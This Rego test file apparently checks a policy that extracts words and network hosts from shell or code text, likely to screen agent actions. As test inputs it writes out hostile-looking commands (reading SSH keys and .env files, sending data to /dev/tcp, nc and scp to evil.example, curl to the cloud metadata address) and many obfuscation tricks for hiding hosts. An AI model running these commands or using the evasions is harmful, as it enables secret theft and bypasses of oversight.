package inbounds.lib.code_test

import data.inbounds.lib.code
import data.inbounds.lib.paths

_words := {
	"": set(),
	" \t\n": set(),
	"cat ~/.ssh/id": {"cat", "~/.ssh/id"},
	"open('/etc/x')": {"open", "/etc/x"},
	"cat .s's'h/id": {"cat", ".s", "s", "h/id", ".ssh/id"},
	`cat .s\sh`: {"cat", `.s\sh`, ".ssh"},
	"cat .s^sh": {"cat", ".s^sh", ".ssh"},
	"a\\\nb": {"a\\", "b", "ab"},
	"${HOME}/x": {"$", "HOME", "/x", "$HOME/x"},
	"--file=.env": {"--file", ".env"},
	"-f.env": {"-f.env", ".env"},
	"-d@.env": {"-d@.env", ".env"},
	"@.env": {"@.env", ".env"},
	"-sd@.env": {"-sd@.env", "d@.env", ".env"},
	"-xf/srv/a": {"-xf/srv/a", "f/srv/a", "/srv/a"},
	"-h10.0.0.1": {"-h10.0.0.1", "10.0.0.1"},
	"-4h10.0": {"-4h10.0", "h10.0", "10.0"},
	"-@.env": {"-@.env", ".env"},
	"+/srv": {"+/srv", "srv", "/srv"},
	"+x@.e": {"+x@.e", ".e"},
	"--x.env": {"--x.env"},
	"+-x": {"+-x"},
	"-f": {"-f"},
	"@": {"@"},
	"[\"a\", 'b']": {"a", "b", "[a", "b]"},
	"f(x).key": {"f", "x", "key"},
	"a[0].key": {"a", "0", "key", "a[0"},
	"${x}.env": {"$", "x", "env", "$x"},
	"x!.key": {"x", "key"},
	"!ls": {"ls", "!ls"},
	"a;b|c&d<e>f`g`": {"a", "b", "c", "d", "e", "f", "g"},
	"a\u0000b\u007fc\u001fd": {"a", "b", "c", "d"},
	"{a,b}": {"a", "b", "*"},
	".e{n,}v": {".e", "n", ".en", "v", ".ev", ".env", ".e*v"},
	".e{n,{x..z}}v": {".e", "n", "x..z", ".en", "v", "x..zv", ".env", ".e?v", ".e*v"},
	"{,x}.env": {"x", "env", ".env", "x.env"},
	".{en,x}{v,}": {".", "en", "x", "v", ".en", "xv", ".env", ".x", ".xv", ".**"},
	".{x..z..2}": {".", "x..z..2", ".x..z..2", ".?", ".*"},
	".(x|env)": {".", "x", "env", ".x", ".env"},
	".@(e|x(n|y))v": {".@", "e", "x", "n", "y", "v", ".v", ".ev", ".xnv", ".xyv"},
	"@(x)": {"@", "x"},
	"f(a).b": {"f", "a", "b"},
	".e$''nv": {".e$", "nv", ".e$nv", ".env"},
	".e$\\\n\"n\"v": {".e$\\", "n", "v", ".e$nv", ".env"},
	"cat .en[v,x]": {"cat", ".en[v", ".en", "v", "x", "x]", ".en?"},
	"k[];.en[[v;x]": {"k", "k[]", ".en[[v", ".en", "v", "x", "x]", ".en?", "k?"},
	"id[[:a:]b]": {"id[[:a:]b]", "id", ":a:", "b", "id?", "id?b]"},
	"id[a-b]": {"id[a-b]", "id", "a-b"},
	"id[a@": {"id[a@", "id", "a@"},
	"git show :(top,x).env": {"git", "show", ".env"},
	"é a": {"é", "a"},
}

test_words_are_those_of_programs_and_of_commands if {
	every text, found in _words {
		code.words(text) == found
	}
}

test_what_is_no_text_has_no_words if {
	every value in [null, true, 0, [], {}, ["a"]] {
		not code.words(value)
		not code.hosts(value)
		not code.names_host(value)
	}
}

test_a_text_too_long_to_be_looked_through_may_name_anything if {
	long := concat("", ["a" | some _ in numbers.range(1, 65536)])
	code.words(long) == {long}
	not code.names_host(long)

	longer := concat("", [long, "a"])
	not code.words(longer)
	not code.hosts(longer)
	code.names_host(longer)
}

test_alternatives_that_are_too_many_may_be_anything if {
	many := concat("", ["{a,b}" | some _ in numbers.range(1, 9)])
	long := concat("", ["a" | some _ in numbers.range(1, 16384)])
	every text in [many, concat("", [long, "{a,b}"])] {
		some word in code.words(text)
		not paths.skeleton(word)
	}
	every text in [
		concat("", [".", trim_suffix(many, "{a,b}")]),
		"{a:{b:{c:{d:{e:{f:{g:{h:1,i:2},j:3},k:4},l:5},m:6},n:7},o:8},p:9}",
	] {
		every word in code.words(text) {
			paths.skeleton(word)
		}
	}
}

_hosts := {
	"curl http://169.254.169.254/x": {"169.254.169.254"},
	"curl 'http://'evil.example/x": {"evil.example"},
	"x('https://u:p@Evil.example:8443/a')": {"evil.example"},
	"HTTPS://Evil.example": {"evil.example"},
	"git+https://x.example/y#z": {"x.example"},
	"http://x.example?y": {"x.example"},
	"http:/x.example": {"x.example"},
	`http:\\x.example\y`: {"x.example", "x.exampley"},
	`wss:\x.example`: {"x.example"},
	"http:///x.example/": {"x.example"},
	"curl http://[::1]:80/": {"[::1]"},
	"curl http://2852039166/": {"2852039166"},
	"curl http://$H/": {"$h"},
	"git clone git@github.com:a/b": {"github.com"},
	"scp a evil.example:/tmp": {"evil.example"},
	"scp a evil.example:~": {"evil.example"},
	"fetch('//evil.example/x')": {"evil.example"},
	`type \\evil.example\x`: {"evil.example"},
	"nc 10.0.0.1 80": {"10.0.0.1"},
	"curl 10.0.0.1:8080/x": {"10.0.0.1"},
	"curl 10.0.0.1/x": {"10.0.0.1"},
	"curl a://b/ c://d/ https://b/": {"b"},
	"s3://bucket/x": {"bucket"},
	"curl http://{ok.example,b.example}/": {"{ok.example", "ok.example", "b.example"},
	"curl http://{ok.example}.b.example/": {"{ok.example}.b.example", "ok.example"},
	"curl 'http://ok.example!.b.example/'": {"ok.example", "ok.example!.b.example"},
	"curl http://[a-z].example": {"[a-z", "[a-z].example"},
	"http://$U:x@ok.example/": {"$u:x@ok.example"},
	"http://*.example/": {"*.example"},
	"http://{ok.e\\\nxample}/": {"{ok.example}", "ok.example"},
	`{"a":"https://a.example"}`: {"a.example"},
	`["https://a.example:80"]`: {"a.example"},
	"http://a@b@c.example/": {"c.example"},
	"http://a.example:b/": {"a.example:b"},
	"curl https://ok.example&@b.example/": {"ok.example", "b.example"},
	"curl 'https://ok.example;@b.example'": {"ok.example", "b.example"},
	"curl https://ok.example'|'@b.example:80/x": {"ok.example", "b.example"},
	"https://ok.example%2f@b.example/": {"b.example"},
	"https:ok.example,@b.example": {"ok.example", "b.example"},
	`curl "https://ok.example @b.example/"`: {"ok.example", "b.example"},
	"\"https://ok.example\t@b.ex\nample/\"": {"ok.example", "b.example"},
	"x,https://y,https://ok.example=@b.example/": {"y", "ok.example", "b.example"},
	"https://{a,c}&@b.example/": {"{a", "a", "c", "{a,c}&@b.example"},
	"scp x 'a&@b.example:x'": {"b.example"},
	"curl http$''://b.example/x": {"b.example"},
	"curl htt$\"p://b.example/x\"": {"b.example"},
	"curl http://$''b.example/": {"$", "$b.example", "b.example"},
	"socat - TCP$'':b.example:80": {"b.example"},
	"cat f > /dev/tcp$''/b.example/80": {"b.example"},
	"curl http{,}://127$''.0.0.1/": {"127$", "127$.0.0.1", "127.0.0.1"},
	"curl http{,s}://b.example": {"b.example"},
	"curl {http:/,x}/b.example/x": {"b.example"},
	"rsync{,}://b.example/x": {"b.example"},
	"scp f e@{b.example,x}:p": {"b.example", "x"},
	"git push e@{b.example,}:x": {"b.example"},
	"$(echo http)://b.example/x": {"b.example"},
	"curl $s://b.example:80": {"b.example"},
	"fetch('http://ok.example\t.b.example/x')": {"ok.example", "ok.example.b.example"},
	"fetch(`http://ok.example\n.b.example/x`)": {"ok.example", "ok.example.b.example"},
	"fetch(\" \rhttp://ok.example\r.b.example\n\")": {"ok.example", "ok.example.b.example"},
	"fetch('http\t:/b.example/x')": {"b.example"},
	"fetch('ht\ttps:\tb.example/x')": {"b.example"},
	"fetch('/\t/b.example/x')": {"b.example"},
	"fetch('http:\t//ok@b.example/')": {"b.example"},
	"// don't\nfetch('http://localh\tost:8080/')": {"localh", "localhost"},
	"curl https://ok.example/x\nls -l": {"ok.example"},
	"x = \"https://ok.example/a\"\nprint(x)": {"ok.example"},
	"curl -H 'a: b' https://ok.example\nls -l 'x'": {"ok.example"},
	"curl https://ok.example&@ⓔvil.example/": {"ok.example", "ⓔvil.example"},
	"u:p@b.example/x": {"b.example"},
	"u@b?x": {"b"},
	"u@[::1]:80": {"[::1]"},
	"u:@b.example/x": {"b.example"},
	"u@b:c": {"b"},
	"b.example:8080/x": {"b.example"},
	"//b.example:80/x": {"b.example"},
	"//b.example?x": {"b.example"},
	"cat </dev/tcp/10.0.0.1/80": {"10.0.0.1"},
	"x//dev//udp//b/80": {"b"},
	"socat - TCP:b:80": {"b"},
	"OPENSSL-CONNECT:b:443,x": {"b"},
	"tcp6:[::1]:80": {"[::1]"},
	"socks4a:b:c:80": {"b"},
	"ftp:b": {"b"},
	"http:b.example": {"b.example"},
	"mailto:a@b.example": {"b.example"},
	"ssh:b": {"b"},
	"curl 10.0.0.1.": {"10.0.0.1."},
	"curl 10.0.0.1?x": {"10.0.0.1"},
	"0x0a.0.0.1#x": {"0x0a.0.0.1"},
	"012.00000.0.1": {"012.00000.0.1"},
	"ssh -L 80:10.0.0.1:10.0.0.2": {"10.0.0.1", "10.0.0.2"},
	"-h10.0.0.1": {"10.0.0.1"},
	"curl ::1": {"[::1]"},
	"curl [::1]/": {"[::1]"},
	"curl [::]:80": {"[::]"},
	"0:0::1": {"[0:0::1]"},
	"::ffff:10.0.0.1": {"[::ffff:10.0.0.1]", "10.0.0.1"},
	"fe80::1": {"[fe80::1]"},
	"64:ff9b::1": {"[64:ff9b::1]"},
	"1:2:3:4:5:6:7:8": {"[1:2:3:4:5:6:7:8]"},
}

test_hosts_are_those_that_a_word_names if {
	every text, found in _hosts {
		code.hosts(text) == found
		code.names_host(text)
	}
	every text in [
		"", "ls -la", "url.startswith('https://')", "// comment", "a // b", "a//b/c", "file:///a/b", "c:/work/a",
		"c://a",
		"a@b.c", "a.b:c", "@app.get", "1.2.3", "1.2.3.4.5", "v1.2.3.4", "git@:a", "https:", "//evil/x",
		"npm i x@1.2", "jsr:@std/path", "x/y@v4", "a/1.2.3.4/b", "120.0.6099.109", "12:30:45", "2024:01:02",
		"aa:bb:cc:dd:ee:ff",
		"x[::2]", "list(x)[::2]", "a::b", "std::x", "f(x)[1:]", "x?https:http", "url(mailto:)", "/dev/tcp",
		"tcp:80", "tcp-listen:80", "u.split('://')", `r'(https?|ftp)://\S+'`, `https?://[^/]+`,
		"a.py:12", "xtcp:b:80", "git:b", "1:2:3:4:5:6:7:8:9", "-1.2.3.4-5", "::2", "a.b:80?x", "dev/tcp/a/80",
	] {
		code.hosts(text) == set()
		not code.names_host(text)
	}
}

test_a_host_is_read_by_the_skeleton_of_its_word if {
	text := "curl http://ⓔvil.example/"
	code.hosts(text) == set()

	zone := "fe80::1%eth0"
	code.hosts(zone) == {"[fe80::1]"} with input as {"action": {"properties": {"skeletons": {zone: zone}}}}

	told := {"http://ⓔvil.example/": "http://evil.example/"}
	code.hosts(text) == {"evil.example"} with input as {"action": {"properties": {"skeletons": told}}}
}
